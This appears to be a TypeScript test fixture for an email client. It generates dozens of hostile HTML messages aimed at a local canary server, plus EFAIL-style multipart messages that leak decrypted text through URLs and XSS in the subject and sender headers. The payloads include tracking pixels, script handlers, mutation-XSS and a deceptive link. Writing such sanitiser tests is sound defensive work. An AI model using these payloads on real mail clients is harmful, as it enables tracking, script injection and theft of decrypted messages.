/**
 * Crafted HTML mail, each message trying one way to make the reader's client fetch something (a tracking
 * pixel, a stylesheet, a font, a frame, a form submission, a redirect) or run a script. Every URL points
 * at the canary server, tagged with the payload's number, so a leak names its payload.
 */

export interface HostileMail {
  subject: string
  /** The whole raw message (RFC 5322), built around the payload. */
  raw: Buffer
}

/** `C` is the canary origin (`http://127.0.0.1:PORT`); each entry is [name, html]. */
export function hostileHtml(C: string): [string, string][] {
  const host = C.replace(/^http:/, '')
  const pwn = (n: string) => `fetch('${C}/script-${n}');parent.document.title='PWNED'`
  return [
    ['tracking pixel', `<p>Hello</p><img src="${C}/1" width="1" height="1">`],
    ['hidden pixel', `<img src="${C}/2" style="display:none">`],
    ['srcset', `<img srcset="${C}/3 1x, ${C}/3b 2x" alt="x">`],
    ['picture source', `<picture><source srcset="${C}/4"><img src="${C}/4b"></picture>`],
    ['css @import url', `<style>@import url(${C}/5);</style><p>styled</p>`],
    ['css @import string', `<style>@import "${C}/6";</style><p>styled</p>`],
    ['css background url', `<style>body{background:url(${C}/7)}</style><p>bg</p>`],
    ['inline style url', `<div style="background-image:url('${C}/8')">x</div>`],
    ['escaped url()', `<div style="background:u\\72l(${C}/9)">x</div>`],
    [
      'font-face',
      `<style>@font-face{font-family:x;src:url(${C}/10)}p{font-family:x}</style><p>f</p>`,
    ],
    ['link stylesheet', `<link rel="stylesheet" href="${C}/11"><p>x</p>`],
    ['link prefetch', `<link rel="prefetch" href="${C}/12"><p>x</p>`],
    ['meta refresh', `<meta http-equiv="refresh" content="0;url=${C}/13"><p>x</p>`],
    [
      'form',
      `<form action="${C}/14" method="post"><input name="a" value="b"><button id="go">Go</button></form>`,
    ],
    ['svg image', `<svg><image href="${C}/15" width="10" height="10"/></svg>`],
    ['svg script', `<svg><script>${pwn('16')}</script></svg>`],
    ['svg onload', `<svg onload="${pwn('17')}"></svg>`],
    ['script', `<script>${pwn('18')}</script>`],
    ['img onerror', `<img src="x" onerror="${pwn('19')}">`],
    ['body onload', `<body onload="${pwn('20')}"><p>x</p></body>`],
    ['javascript: link', `<a id="js" href="javascript:${pwn('21')}">click me</a>`],
    ['iframe', `<iframe src="${C}/22"></iframe>`],
    ['iframe srcdoc', `<iframe srcdoc="<img src=${C}/23>"></iframe>`],
    ['object', `<object data="${C}/24"></object>`],
    ['embed', `<embed src="${C}/25">`],
    ['video poster', `<video poster="${C}/26" src="${C}/26b" autoplay></video>`],
    ['audio', `<audio src="${C}/27" autoplay></audio>`],
    ['table background', `<table background="${C}/28"><tr><td>x</td></tr></table>`],
    ['base href', `<base href="${C}/29/"><img src="rel.png"><a href="rel">rel</a>`],
    ['input image', `<input type="image" src="${C}/30">`],
    ['lazy pixel far down', `<div style="height:3000px"></div><img src="${C}/31" loading="lazy">`],
    ['list-style-image', `<ul style="list-style-image:url(${C}/32)"><li>x</li></ul>`],
    ['list-style in sheet', `<style>li{list-style:url(${C}/33)}</style><ul><li>x</li></ul>`],
    ['border-image', `<div style="border:5px solid;border-image:url(${C}/34) 30 round">x</div>`],
    ['cursor', `<div style="cursor:url(${C}/35),auto">x</div>`],
    ['image-set', `<style>div{background:image-set(url(${C}/36) 1x)}</style><div>x</div>`],
    ['image-set string', `<div style="background:-webkit-image-set('${C}/37' 1x)">x</div>`],
    [
      'mathml mxss',
      `<math><mtext><table><mglyph><style><img src="${C}/38"></style></mtext></math>`,
    ],
    [
      'noscript mxss',
      `<noscript><p title="</noscript><img src=${C}/39 onerror=${pwn('39')}>"></noscript>`,
    ],
    ['link with ping', `<a id="ping" href="${C}/40" ping="${C}/40p">a link</a>`],
    [
      'image map area',
      `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" usemap="#m"><map name="m"><area href="${C}/41" shape="rect" coords="0,0,1,1"></map>`,
    ],
    ['protocol-relative', `<img src="${host}/42">`],
    ['odd case and spaces', `<img src="  HTTP://${C.slice(7)}/43 ">`],
    [
      'svg as data image',
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${C}/44'/></svg>">`,
    ],
    ['import in media', `<style>@media all{@import url(${C}/45);}</style><p>x</p>`],
    ['escaped @import', `<style>@\\69mport url(${C}/46);</style><p>x</p>`],
    ['entity-encoded url', `<div style="background:url(&quot;${C}/47&quot;)">x</div>`],
    ['template', `<template><img src="${C}/48"></template><p>x</p>`],
    ['portal', `<portal src="${C}/49"></portal><p>x</p>`],
    ['details ontoggle', `<details open ontoggle="${pwn('50')}"><summary>s</summary></details>`],
    ['marquee onstart', `<marquee onstart="${pwn('51')}">m</marquee>`],
    ['isindex', `<isindex action="${C}/52"><p>x</p>`],
    ['dynsrc lowsrc', `<img dynsrc="${C}/53" lowsrc="${C}/53b">`],
    ['bgsound', `<bgsound src="${C}/54"><p>x</p>`],
    ['css variable url', `<style>:root{--u:url(${C}/55)}body{background:var(--u)}</style><p>x</p>`],
    ['link icon', `<link rel="icon" href="${C}/59"><p>x</p>`],
    ['behavior', `<div style="behavior:url(${C}/60)">x</div>`],
    [
      'object data: html',
      `<object type="text/html" data="data:text/html,<img src=${C}/61>"></object>`,
    ],
    ['svg use', `<svg><use href="${C}/63#x"/></svg>`],
    [
      'svg animate javascript',
      `<svg><a><animate attributeName="href" values="javascript:${pwn('64')}"/><text y="20">t</text></a></svg>`,
    ],
    ['deceptive link text', `<a id="deceptive" href="${C}/65">https://bank.example/login</a>`],
    [
      'xlink image',
      `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${C}/66"/></svg>`,
    ],
    [
      'css in attribute of table',
      `<table style="background:url(${C}/67)"><tr><td>x</td></tr></table>`,
    ],
  ]
}

function mime(subject: string, html: string): string {
  return [
    'From: "Mallory" <mallory@example.com>',
    'To: bob@example.com',
    `Subject: ${subject}`,
    'Date: Mon, 02 Nov 2026 10:00:00 +0000',
    `Message-ID: <${Math.random().toString(36).slice(2)}@example.com>`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    html,
    '',
  ].join('\r\n')
}

/** EFAIL's direct exfiltration: an unclosed attribute in one part swallows the next part's text. */
function efail(C: string, n: number, tag: string, opener: string, closer: string): string {
  const boundary = `b-${n}`
  return [
    'From: "Mallory" <mallory@example.com>',
    'To: bob@example.com',
    `Subject: Hostile ${n}: EFAIL ${tag}`,
    'Date: Mon, 02 Nov 2026 10:00:00 +0000',
    'MIME-Version: 1.0',
    `Content-Type: multipart/mixed; boundary="${boundary}"`,
    '',
    `--${boundary}`,
    'Content-Type: text/html',
    '',
    `${opener}${C}/efail-${n}?secret=`,
    `--${boundary}`,
    'Content-Type: text/plain',
    '',
    'The decrypted secret message',
    `--${boundary}`,
    'Content-Type: text/html',
    '',
    closer,
    `--${boundary}--`,
    '',
  ].join('\r\n')
}

/** Every hostile message, numbered in its subject (`Hostile 7: …`). */
export function hostileMails(C: string): HostileMail[] {
  const mails = hostileHtml(C).map(([name, html], i) => ({
    subject: `Hostile ${i + 1}: ${name}`,
    raw: Buffer.from(mime(`Hostile ${i + 1}: ${name}`, html)),
  }))
  const n = mails.length
  mails.push(
    {
      subject: `Hostile ${n + 1}: EFAIL img`,
      raw: Buffer.from(efail(C, n + 1, 'img', '<img src="', '">')),
    },
    {
      subject: `Hostile ${n + 2}: EFAIL link`,
      raw: Buffer.from(efail(C, n + 2, 'link', '<a href="', '">x</a>')),
    },
    {
      subject: `Hostile ${n + 3}: EFAIL style`,
      raw: Buffer.from(efail(C, n + 3, 'style', '<style>@import url(', ');</style>')),
    },
  )
  // The subject and sender name are hostile too: they are shown as text, never as markup.
  mails.push({
    subject: `Hostile ${n + 4}: <img src=${C}/subject onerror=alert(1)>`,
    raw: Buffer.from(
      mime(
        `Hostile ${n + 4}: <img src=${C}/subject onerror=alert(1)>`,
        '<p>subject test</p>',
      ).replace('From: "Mallory"', `From: "<img src=${C}/from>"`),
    ),
  })
  return mails
}

/** A well-behaved HTML mail with an inline (cid:) image, which must still show. */
export function inlineImageMail(C: string): Buffer {
  const png =
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
  return Buffer.from(
    [
      'From: "Lighthouse Co" <news@example.com>',
      'To: bob@example.com',
      'Subject: Newsletter with an inline logo',
      'Date: Mon, 02 Nov 2026 09:00:00 +0000',
      'MIME-Version: 1.0',
      'Content-Type: multipart/related; boundary="rel"',
      '',
      '--rel',
      'Content-Type: text/html; charset=utf-8',
      '',
      `<h1 style="color:#0a64d6">Lighthouse news</h1><p><img id="logo" src="cid:logo@lighthouse" alt="logo" width="40" height="40"> Our logo, embedded.</p><p><img src="${C}/newsletter-remote.png" alt="remote"> And a remote image, loaded only if the reader allows it.</p>`,
      '--rel',
      'Content-Type: image/png',
      'Content-Transfer-Encoding: base64',
      'Content-ID: <logo@lighthouse>',
      'Content-Disposition: inline; filename="logo.png"',
      '',
      png,
      '--rel--',
      '',
    ].join('\r\n'),
  )
}
